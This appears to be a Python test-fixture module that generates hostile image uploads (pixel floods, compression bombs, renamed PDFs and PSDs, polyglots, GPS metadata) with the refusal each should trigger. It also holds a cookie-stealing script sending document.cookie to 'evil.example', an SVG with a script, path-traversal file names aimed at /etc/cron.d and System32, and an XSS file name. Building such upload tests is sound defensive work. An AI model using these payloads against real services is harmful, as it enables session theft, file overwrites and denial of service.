"""A corpus of hostile uploads, generated here (nothing downloaded): bombs, damaged files, polyglots,
formats renamed .jpg, odd colour modes, animation, and metadata that must not survive a re-encode.

Each case says what the product must do with it: refuse it with a message (a substring of the
plain-language reason), or accept it and store a clean re-encode. Cases built on a face photo take
one (PIL image) so that the entry points that look for a face accept them; without one they use a
plain test card, enough for decoding and fuzzing seeds.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image, ImageDraw

MB = 1024 * 1024
GPS_IFD = 0x8825
ORIENTATION = 0x0112


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[Image.Image, bytes], bytes]  # (face photo, the same as JPEG) → the file's bytes
    file_name: str = "photo.jpg"
    refused: str = ""  # a substring of the refusal; empty when the photo must be accepted
    rotated: bool = False  # stored upright: the face photo's own size, not the file's

    @property
    def accepted(self) -> bool:
        return not self.refused

    def data(self, face: Image.Image | None = None) -> bytes:
        face = (face or plain_card()).convert("RGB")
        return self.make(face, encoded(face, quality=90))


def plain_card(size=(320, 240)) -> Image.Image:
    """A stand-in picture with edges and colours (no face)."""
    card = Image.new("RGB", size, (180, 150, 120))
    draw = ImageDraw.Draw(card)
    for x in range(0, size[0], 20):
        draw.line([(x, 0), (size[0] - x, size[1])], fill=(20, 40 + x % 200, 90), width=3)
    draw.ellipse([size[0] // 4, size[1] // 4, 3 * size[0] // 4, 3 * size[1] // 4], outline=(250, 250, 250), width=4)
    return card


def encoded(image: Image.Image, fmt: str = "JPEG", **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


# --- Hand-built containers: Pillow would refuse to write these -------------------------------------


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_raw(
    width: int,
    height: int,
    *,
    bit_depth: int = 8,
    color_type: int = 2,
    rows: int | None = None,
    extra_chunks: list[tuple[bytes, bytes]] = (),
) -> bytes:
    """A PNG whose header says width × height; its IDAT holds `rows` rows of zeros (default: all),
    compressed as a stream so that a gigapixel declaration costs no memory here."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[color_type]
    row = b"\x00" * (1 + (width * channels * bit_depth + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = bytearray()
    for _ in range(height if rows is None else rows):
        idat += compressor.compress(row)
    idat += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    chunks = [
        _png_chunk(b"IHDR", header),
        *[_png_chunk(k, b) for k, b in extra_chunks],
        _png_chunk(b"IDAT", bytes(idat)),
        _png_chunk(b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def gif_pixel_flood() -> bytes:
    """A GIF whose logical screen is 65535 × 65535 around a 1 × 1 frame."""
    screen = struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + screen + frame + b"\x3b"


def _riff_chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + (b"\x00" if len(body) % 2 else b"")


def webp_canvas_flood(width: int, height: int) -> bytes:
    """An animated WebP whose canvas is width × height around one 1 × 1 frame: 94 bytes for which
    the WebP decoder would reserve two canvases (8 bytes a pixel) as soon as the file is opened."""
    one_pixel = encoded(Image.new("RGB", (1, 1)), "WEBP", lossless=True)
    start = one_pixel.index(b"VP8L")
    frame = one_pixel[start : start + 8 + struct.unpack("<I", one_pixel[start + 4 : start + 8])[0]]
    frame += b"\x00" * (len(frame) % 2)

    def u24(value: int) -> bytes:
        return struct.pack("<I", value)[:3]

    body = (
        b"WEBP"
        + _riff_chunk(b"VP8X", b"\x02\x00\x00\x00" + u24(width - 1) + u24(height - 1))
        + _riff_chunk(b"ANIM", b"\x00" * 6)
        + _riff_chunk(b"ANMF", u24(0) * 4 + u24(100) + b"\x00" + frame)
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def psd_minimal() -> bytes:
    """A 1 × 1 RGB Photoshop file."""
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 1, 1, 8, 3)
    return header + struct.pack(">I", 0) * 3 + struct.pack(">H", 0) + b"\x80\x80\x80"


def fits_minimal() -> bytes:
    """A 2 × 2 8-bit FITS image (astronomy format), in its 2880-byte blocks."""
    cards = [
        "SIMPLE  =                    T",
        "BITPIX  =                    8",
        "NAXIS   =                    2",
        "NAXIS1  =                    2",
        "NAXIS2  =                    2",
        "END",
    ]
    header = "".join(card.ljust(80) for card in cards).ljust(2880).encode("ascii")
    return header + (b"\x7f" * 4).ljust(2880, b"\x00")


PDF_MINIMAL = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
SVG_HOSTILE = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b'<script>fetch("/audit/export.csv")</script><rect width="100" height="100"/></svg>'
)
HTML_PAYLOAD = b"<html><body><script>document.location='//evil.example/?c='+document.cookie</script></body></html>"


def jpeg_with_comment(jpeg: bytes, comment: bytes) -> bytes:
    """The JPEG with a COM segment right after SOI."""
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", HTML_PAYLOAD)
    return buffer.getvalue()


def exif_with_gps(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "HostileCam"
    exif[0x0131] = "firmware 6.6.6"
    if orientation:
        exif[ORIENTATION] = orientation
    exif[GPS_IFD] = {1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)}
    return exif


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="51,30.4N"/></rdf:RDF>'
    b"</x:xmpmeta>"
)


def animated(fmt: str, base: Image.Image, frames: int = 3) -> bytes:
    images = [base.rotate(angle * 10) for angle in range(frames)]
    return encoded(images[0], fmt, save_all=True, append_images=images[1:], duration=100, loop=0)


# --- The corpus -------------------------------------------------------------------------------------

HOSTILE_CASES = (
    Case("png_pixel_flood", lambda face, jpeg: png_raw(100_000, 100_000, rows=1), refused="too many pixels"),
    Case("png_over_the_pixel_limit", lambda face, jpeg: png_raw(8_000, 6_000), refused="too many pixels (8000×6000"),
    Case(
        "webp_canvas_flood",
        lambda face, jpeg: webp_canvas_flood(13_000, 13_000),
        refused="too many pixels (13000×13000",
    ),
    Case("webp_one_pixel_high", lambda face, jpeg: webp_canvas_flood(5_911_240, 1), refused="too wide or too tall"),
    Case("png_70000_wide", lambda face, jpeg: png_raw(70_000, 2), refused="too wide or too tall (70000×2"),
    Case("gif_pixel_flood", lambda face, jpeg: gif_pixel_flood(), refused="Unsupported image format GIF"),
    Case("png_zero_height", lambda face, jpeg: png_raw(64, 0), refused="damaged and cannot be read"),
    Case(
        "png_ztxt_bomb",
        lambda face, jpeg: png_raw(
            32, 32, extra_chunks=[(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (64 * MB), 9))]
        ),
        refused="damaged and cannot be read",
    ),
    Case("jpeg_truncated", lambda face, jpeg: jpeg[: len(jpeg) // 2], refused="truncated or damaged"),
    Case(
        "svg_with_script", lambda face, jpeg: SVG_HOSTILE, file_name="photo.svg", refused="Unsupported image format SVG"
    ),
    Case("pdf_renamed_jpg", lambda face, jpeg: PDF_MINIMAL, refused="it is a PDF document"),
    Case("psd_renamed_jpg", lambda face, jpeg: psd_minimal(), refused="Unsupported image format PSD"),
    Case("fits_renamed_jpg", lambda face, jpeg: fits_minimal(), refused="Unsupported image format FITS"),
    Case(
        "gif_animated",
        lambda face, jpeg: animated("GIF", face),
        file_name="photo.gif",
        refused="Unsupported image format GIF",
    ),
    Case(
        "webp_animated",
        lambda face, jpeg: animated("WEBP", face),
        file_name="photo.webp",
        refused="animated (3 frames)",
    ),
    Case("body_50_mb", lambda face, jpeg: jpeg + b"\x00" * (50 * MB - len(jpeg)), refused="too large (50.0 MB)"),
    Case("jpeg_html_polyglot", lambda face, jpeg: jpeg_with_comment(jpeg, HTML_PAYLOAD) + HTML_PAYLOAD),
    Case("jpeg_zip_polyglot", lambda face, jpeg: jpeg + zip_archive()),
    Case("jpeg_cmyk", lambda face, jpeg: encoded(face.convert("CMYK"), quality=90)),
    Case("png_16_bit", lambda face, jpeg: encoded(Image.fromarray(_sixteen_bit(face)), "PNG"), file_name="photo.png"),
    Case(
        "jpeg_exif_rotated",
        lambda face, jpeg: encoded(face.rotate(90, expand=True), exif=exif_with_gps(orientation=6)),
        rotated=True,
    ),
    Case(
        "jpeg_exif_gps_xmp_icc",
        lambda face, jpeg: encoded(
            face, exif=exif_with_gps(), xmp=XMP, comment=b"taken at 51.5N 0.1W", icc_profile=_srgb_profile()
        ),
    ),
    Case(
        "png_long_comment_text", lambda face, jpeg: encoded(face, "PNG", pnginfo=_long_comment()), file_name="photo.png"
    ),
    Case("name_path_traversal", lambda face, jpeg: jpeg, file_name="../../../../etc/cron.d/evil.jpg"),
    Case("name_windows_traversal", lambda face, jpeg: jpeg, file_name="..\\..\\..\\Windows\\System32\\evil.jpg"),
    Case("name_very_long", lambda face, jpeg: jpeg, file_name="x" * 600 + ".jpg"),
    Case("name_html", lambda face, jpeg: jpeg, file_name='"><img src=x onerror=alert(1)>.jpg'),
)


def _sixteen_bit(image: Image.Image):
    import numpy as np

    return (np.asarray(image.convert("L"), dtype=np.uint16) * 257).astype(np.uint16)


def _long_comment():
    """A PNG text chunk named "comment", longer than a JPEG comment can be, with markup in it."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("comment", HTML_PAYLOAD.decode() + "A" * 70_000, zip=True)
    return info


def _srgb_profile() -> bytes:
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


# Photos at the pixel limit (40 MP) in the modes that cost the most memory to decode, and a declaration
# far past it: the memory test decodes these under a resource limit (too slow to send through pages).
BIG_CASES = (
    Case("png_rgba_40mp", lambda face, jpeg: png_raw(7_300, 5_470, color_type=6), file_name="big.png"),
    Case("png_16_bit_grey_40mp", lambda face, jpeg: png_raw(7_300, 5_470, bit_depth=16, color_type=0)),
    Case("png_16_bit_rgba_40mp", lambda face, jpeg: png_raw(7_300, 5_470, bit_depth=16, color_type=6)),
    Case("png_pixel_flood_gigapixel", lambda face, jpeg: png_raw(65_535, 65_535, rows=64), refused="too many pixels"),
    # Its pixel stream ends after one row: Pillow takes it (the rest stays black) at the cost of a real 40 MP photo.
    Case("png_declares_40mp_holds_one_row", lambda face, jpeg: png_raw(7_300, 5_470, rows=1)),
    Case("jpeg_40mp", lambda face, jpeg: encoded(Image.new("RGB", (7_300, 5_470), (90, 90, 90)), quality=50)),
    Case("jpeg_cmyk_40mp", lambda face, jpeg: encoded(Image.new("CMYK", (7_300, 5_470), (10, 20, 30, 40)), quality=50)),
    Case("webp_40mp", lambda face, jpeg: encoded(Image.new("RGB", (16_000, 2_500), (90, 90, 90)), "WEBP", quality=10)),
)
